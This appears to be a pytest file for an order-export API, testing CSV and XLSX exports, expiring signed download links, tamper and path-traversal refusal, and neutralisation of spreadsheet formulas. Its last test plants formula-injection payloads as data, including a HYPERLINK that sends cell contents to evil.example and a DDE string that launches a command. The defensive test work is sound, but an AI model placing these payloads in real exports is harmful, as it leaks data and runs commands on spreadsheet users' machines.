"""Exports through the API and their signed download links: content, expiry, tampering."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any
from urllib.parse import urlsplit

import openpyxl
import pytest

from services.ops.exports import EXPORT_DIR, parse_date_range
from services.ops.links import LinkError, sign, verify

NOVEMBER = {"kind": "orders", "from": "2026-11-01", "to": "2026-11-30"}


@pytest.fixture(autouse=True)
def _remove_files_made() -> Any:
    before = set(EXPORT_DIR.glob("*")) if EXPORT_DIR.exists() else set()
    yield
    for path in set(EXPORT_DIR.glob("*")) - before:
        path.unlink()


async def _export(api: Any, **body: Any) -> dict[str, Any]:
    response = await api.post("/api/v1/exports", json={**NOVEMBER, **body}, headers=api.auth)
    assert response.status == 201, await response.text()
    return await response.json()


def _path(url: str) -> str:
    parts = urlsplit(url)
    assert f"{parts.scheme}://{parts.netloc}" == "https://ops.example.com"
    return parts.path


async def test_csv_export_has_one_row_per_placed_order(api: Any) -> None:
    made = await _export(api, format="csv")
    assert (made["rows"], made["format"], made["requested_by"]) == (6, "csv", "api:tests")
    response = await api.get(_path(made["url"]))
    assert response.status == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert made["file_name"] in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(await response.text())))
    assert [int(r["order_id"]) for r in rows] == [1001, 1002, 1003, 1004, 1005, 1006]
    first = rows[1]
    assert (first["status"], first["retailer"], first["vendor"], first["total"], first["items"]) == (
        "DELIVERED", "Ram Kirana", "Lumbini Traders", "1050.00", "1")
    assert (first["created_at"], first["delivered_at"]) == ("2026-11-02 00:45:00", "2026-11-02 02:45:00")
    assert rows[3]["failure_reason"] == "no vendor can supply this order"


async def test_xlsx_export_opens_with_openpyxl(api: Any) -> None:
    made = await _export(api, format="xlsx", **{"from": "2026-11-02", "to": "2026-11-02"})
    response = await api.get(_path(made["url"]))
    assert response.status == 200
    book = openpyxl.load_workbook(io.BytesIO(await response.read()), read_only=True)
    rows = list(book["orders"].iter_rows(values_only=True))
    assert rows[0][:3] == ("order_id", "created_at", "status")
    assert [r[0] for r in rows[1:]] == [1002, 1003, 1004, 1005, 1006]
    assert made["rows"] == 5


async def test_exports_are_listed_with_their_links_and_audited(api: Any) -> None:
    made = await _export(api)
    listed = (await (await api.get("/api/v1/exports", headers=api.auth)).json())["exports"]
    assert [(e["id"], e["url"], e["expired"]) for e in listed] == [(made["id"], made["url"], False)]
    api.clock.advance(timedelta(hours=25))
    listed = (await (await api.get("/api/v1/exports", headers=api.auth)).json())["exports"]
    assert (listed[0]["url"], listed[0]["expired"]) == (None, True)
    from bot.appkeys import RUNTIME

    async with api.app[RUNTIME].pool.acquire() as conn:
        assert await conn.fetchval("SELECT actor FROM audit_log WHERE action = 'api export'") == "api:tests"


@pytest.mark.parametrize("body", [{"format": "pdf"}, {"kind": "payments"}, {"from": "2026-11-31"},
                                  {"from": "2026-11-30", "to": "2026-11-01"}, {"from": 20261101}])
async def test_bad_export_requests_are_400(api: Any, body: dict[str, Any]) -> None:
    response = await api.post("/api/v1/exports", json={**NOVEMBER, **body}, headers=api.auth)
    assert response.status == 400


async def test_link_expires_with_the_clock(api: Any) -> None:
    path = _path((await _export(api))["url"])
    api.clock.advance(timedelta(hours=23, minutes=59))
    assert (await api.get(path)).status == 200
    api.clock.advance(timedelta(minutes=1))
    response = await api.get(path)
    assert response.status == 403
    assert (await response.json())["error"] == "link expired"


async def test_tampered_links_are_refused(api: Any) -> None:
    path = _path((await _export(api))["url"])
    name, expires, signature = path.removeprefix("/downloads/").split(".")
    later = str(int(expires) + 86400)
    flipped = ("A" if signature[0] != "A" else "B") + signature[1:]
    assert (await api.get(f"/downloads/{name}.{later}.{signature}")).status == 403
    assert (await api.get(f"/downloads/{name}.{expires}.{flipped}")).status == 403
    assert (await api.get(f"/downloads/{name}.{expires}")).status == 404
    assert (await api.get("/downloads/not-a-token")).status == 404


async def test_a_signed_link_to_a_missing_file_is_404(api: Any) -> None:
    token = sign("orders-gone.csv", api.clock.now() + timedelta(hours=1), "test-link-secret")
    assert (await api.get(f"/downloads/{token}")).status == 404


def test_links_grant_only_plain_names_under_the_folder() -> None:
    now = datetime(2026, 11, 2, tzinfo=UTC)
    with pytest.raises(ValueError):
        sign("../config.yml", now, "secret")
    token = sign("orders.csv", now + timedelta(seconds=1), "secret")
    assert verify(token, "secret", now) == "orders.csv"
    with pytest.raises(LinkError) as refused:
        verify(token, "another secret", now)
    assert refused.value.status == 403


def test_date_ranges() -> None:
    assert parse_date_range("2026-11-01..2026-11-30") == (date(2026, 11, 1), date(2026, 11, 30))
    assert parse_date_range("2026-11-05") == (date(2026, 11, 5), date(2026, 11, 5))
    for bad in ("2026-11-01..", "nov", "2026-12-01..2026-11-01", "2025-01-01..2026-11-01"):
        with pytest.raises(ValueError):
            parse_date_range(bad)


FORMULAS = {"Ram Kirana": '=HYPERLINK("http://evil.example/?"&A1,"open")',
            "Lumbini Traders": "@SUM(1+1)*cmd|' /C calc'!A0", "reason": "-2+3", "tab": "\t=1+1", "cr": "\r=1+1"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_cells_a_spreadsheet_would_run_are_neutralised(api: Any, fmt: str) -> None:
    from bot.appkeys import RUNTIME

    async with api.app[RUNTIME].pool.acquire() as conn:
        await conn.execute("UPDATE users SET name = $1 WHERE name = 'Ram Kirana'", FORMULAS["Ram Kirana"])
        await conn.execute("UPDATE users SET name = $1 WHERE name = 'Lumbini Traders'", FORMULAS["Lumbini Traders"])
        await conn.execute("UPDATE orders SET failure_reason = $1 WHERE id = 1001", FORMULAS["reason"])
        await conn.execute("UPDATE orders SET failure_reason = $1 WHERE id = 1002", FORMULAS["tab"])
        await conn.execute("UPDATE orders SET failure_reason = $1 WHERE id = 1003", FORMULAS["cr"])
    made = await _export(api, format=fmt)
    path = EXPORT_DIR / made["file_name"]
    if fmt == "csv":
        with path.open(newline="", encoding="utf-8") as file:
            rows = [dict(r) for r in csv.DictReader(file)]
    else:
        sheet = openpyxl.load_workbook(path)["orders"]
        header, *body = [[c.value for c in r] for r in sheet.iter_rows()]
        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)  # no cell is a formula
        rows = [dict(zip(header, (("" if v is None else str(v)) for v in r), strict=True)) for r in body]
    by_id = {int(r["order_id"]): r for r in rows}
    assert by_id[1002]["retailer"] == "'" + FORMULAS["Ram Kirana"]
    assert by_id[1002]["vendor"] == "'" + FORMULAS["Lumbini Traders"]
    newline = "\r" if fmt == "csv" else "\n"  # XML keeps no bare CR
    assert [by_id[i]["failure_reason"] for i in (1001, 1002, 1003)] == [
        "'" + FORMULAS[k].replace("\r", newline) for k in ("reason", "tab", "cr")]
    assert by_id[1002]["retailer_phone"].startswith("'+977")
    assert float(by_id[1002]["total"]) == 1050 and by_id[1002]["status"] == "DELIVERED"  # numbers stay numbers
